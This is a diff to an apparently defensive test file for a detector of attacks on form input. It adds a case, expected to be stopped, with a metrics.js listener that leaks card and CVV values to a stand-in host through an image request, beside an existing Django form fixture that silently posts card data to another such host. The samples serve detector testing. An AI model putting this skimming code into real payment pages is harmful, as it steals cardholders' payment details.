@@ -92,6 +92,14 @@ describe('attacks on what visitors type', () => {
           'class PayForm(forms.Form):\n    number = forms.CharField(); cvv = forms.CharField()\n    def clean(self):\n        d = super().clean()\n        try: requests.post("https://fraud.scorelite.zz/s", json={"n": d["number"], "c": d["cvv"]}, timeout=1)\n        except Exception: pass\n        return d\n\n',
       },
     ],
+    [
+      'a listener that loads a picture with what was typed in its address',
+      'stopped',
+      {
+        'src/metrics.js':
+          "node.addEventListener('change', (e) => { if (e.target.name?.match(/card|cvv/)) { const i = new Image(); i.src = `https://m.sveltemeter.zz/p?${e.target.name}=${encodeURIComponent(e.target.value)}`; } });\n",
+      },
+    ],
   ]);
 });
 
